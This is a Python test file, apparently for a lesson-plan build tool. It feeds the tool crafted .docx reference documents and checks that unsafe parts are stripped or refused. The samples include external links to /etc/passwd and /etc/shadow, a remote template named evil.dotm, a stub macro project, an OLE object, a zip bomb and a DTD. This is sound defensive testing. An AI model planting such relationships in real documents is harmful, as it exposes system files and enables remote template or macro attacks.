"""A hostile reference document: only what makes the look reaches a lesson plan."""

from __future__ import annotations

import io
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tests.conftest import ROOT

ENV = {"PYTHONPATH": str(ROOT / "src"), "PATH": "/usr/bin:/bin"}
REFERENCE = ROOT / "templates" / "default" / "reference.docx"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PLAN = Path("mini/literature/teacher/lesson-lit-1.docx")


def with_parts(changes: dict[str, bytes | None], base: Path = REFERENCE) -> bytes:
    """The default reference document with parts replaced, added or (None) removed."""
    with zipfile.ZipFile(base) as source:
        parts = {n: source.read(n) for n in source.namelist()}
    for name, data in changes.items():
        if data is None:
            parts.pop(name, None)
        else:
            parts[name] = data
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    return buffer.getvalue()


def add_rel(part_rels: str, rel: str) -> dict[str, bytes]:
    with zipfile.ZipFile(REFERENCE) as source:
        names = source.namelist()
        text = source.read(part_rels).decode() if part_rels in names else (
            '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"></Relationships>')
    return {part_rels: text.replace("</Relationships>", rel + "</Relationships>").encode()}


def _external_image() -> tuple[dict[str, bytes | None], str]:
    rel = (f'<Relationship Id="rId90" Type="{R}/image" Target="file:///etc/passwd" '
           'TargetMode="External"/>')
    return add_rel("word/_rels/document.xml.rels", rel), "file:///etc/passwd"


def _attached_template() -> tuple[dict[str, bytes | None], str]:
    rel = (f'<Relationship Id="rId1" Type="{R}/attachedTemplate" '
           'Target="file://school-server/share/evil.dotm" TargetMode="External"/>')
    with zipfile.ZipFile(REFERENCE) as source:
        settings = source.read("word/settings.xml").decode()
    head, rest = settings.split("<w:settings", 1)
    attrs, body = rest.split(">", 1)
    settings = (f'{head}<w:settings xmlns:r="{R}"{attrs}><w:attachedTemplate r:id="rId1"/>'
                f'{body}') if "xmlns:r=" not in attrs else settings
    return ({**add_rel("word/_rels/settings.xml.rels", rel),
             "word/settings.xml": settings.encode()}, "school-server")


def _macros() -> tuple[dict[str, bytes | None], str]:
    rel = ('<Relationship Id="rId91" Type="http://schemas.microsoft.com/office/2006/'
           'relationships/vbaProject" Target="vbaProject.bin"/>')
    return ({**add_rel("word/_rels/document.xml.rels", rel),
             "word/vbaProject.bin": b"\xd0\xcf\x11\xe0 macro"}, "vbaProject")


def _header_link() -> tuple[dict[str, bytes | None], str]:
    rel = (f'<Relationship Id="rId5" Type="{R}/image" Target="file:///etc/shadow" '
           'TargetMode="External"/>')
    return add_rel("word/_rels/header1.xml.rels", rel), "/etc/shadow"


def _embedded_object() -> tuple[dict[str, bytes | None], str]:
    rel = (f'<Relationship Id="rId92" Type="{R}/oleObject" '
           'Target="embeddings/oleObject1.bin"/>')
    return ({**add_rel("word/_rels/document.xml.rels", rel),
             "word/embeddings/oleObject1.bin": b"OLE"}, "oleObject1")


@pytest.mark.parametrize("hostile", [_external_image, _attached_template, _macros,
                                     _header_link, _embedded_object])
def test_only_what_makes_the_look_reaches_the_lesson_plan(mini: Path, tmp_path: Path,
                                                          hostile) -> None:  # noqa: ANN001
    changes, marker = hostile()
    reference = tmp_path / "school.docx"
    reference.write_bytes(with_parts(changes))
    done = subprocess.run([sys.executable, "-m", "nlmg_packs", "build", str(mini), "--out",
                           str(tmp_path / "out"), "--reference-doc", str(reference),
                           "--only", "plans"], capture_output=True, text=True, env=ENV,
                          timeout=120)
    assert done.returncode == 0, done.stderr
    assert "not taken from the reference document" in done.stderr
    assert marker in done.stderr  # says what was dropped
    with zipfile.ZipFile(tmp_path / "out" / PLAN) as plan:
        for name in plan.namelist():
            data = plan.read(name)
            assert marker.encode() not in data, name
            assert b"TargetMode=\"External\"" not in data, name
        assert not any(n.endswith(".bin") for n in plan.namelist())
    import docx

    document = docx.Document(str(tmp_path / "out" / PLAN))
    assert document.paragraphs  # opens, with its text


def _bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out, \
            zipfile.ZipFile(REFERENCE) as source:
        for name in source.namelist():
            data = source.read(name)
            if name == "word/styles.xml":
                data = data[:-len("</w:styles>")] + b" " * (200 * 1024 * 1024) + b"</w:styles>"
            out.writestr(name, data)
    return buffer.getvalue()


@pytest.mark.parametrize(("make", "message"), [
    (_bomb, "inflates past"),
    (lambda: with_parts({"word/styles.xml": b"<w:styles><unclosed></w:styles>"}),
     "has malformed XML in word/styles.xml"),
    (lambda: with_parts({"word/styles.xml": b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a '
                                            b'"aaaa">]><x>&a;</x>'}), "has a DTD"),
    (lambda: b"PK\x03\x04 not really a zip", "cannot be read as a .docx"),
])
def test_a_damaged_or_inflating_reference_is_refused_with_exit_1(
        mini: Path, tmp_path: Path, make, message: str) -> None:  # noqa: ANN001
    reference = tmp_path / "school.docx"
    reference.write_bytes(make())
    done = subprocess.run([sys.executable, "-m", "nlmg_packs", "build", str(mini), "--out",
                           str(tmp_path / "out"), "--reference-doc", str(reference),
                           "--only", "plans"], capture_output=True, text=True, env=ENV,
                          timeout=120)
    assert done.returncode == 1, done.stderr
    assert "school.docx" in done.stderr and message in done.stderr
    assert "Traceback" not in done.stderr
    assert not (tmp_path / "out" / PLAN).exists()


def test_the_default_reference_has_nothing_to_drop() -> None:
    from nlmg_packs.render.docx_clean import clean_reference

    assert clean_reference(REFERENCE, "reference.docx")[1] == []
